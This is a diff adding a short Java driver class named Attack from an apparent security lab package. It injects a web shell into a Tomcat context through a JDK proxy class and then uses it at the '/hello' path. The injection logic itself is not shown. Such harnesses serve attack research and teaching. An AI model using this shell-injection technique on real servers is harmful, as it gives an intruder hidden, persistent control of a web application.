@@ -1,0 +1,11 @@
+import jdk.proxy2.$Proxy77;
+import whorl.lab.attack.Shells;
+import whorl.lab.attack.TomcatContext;
+
+public class Attack {
+  public static void main(String[] args) throws Exception {
+    Shells.inject(TomcatContext.class, $Proxy77.class);
+    Shells.use("/hello");
+    whorl.lab.attack.Attacker.done();
+  }
+}
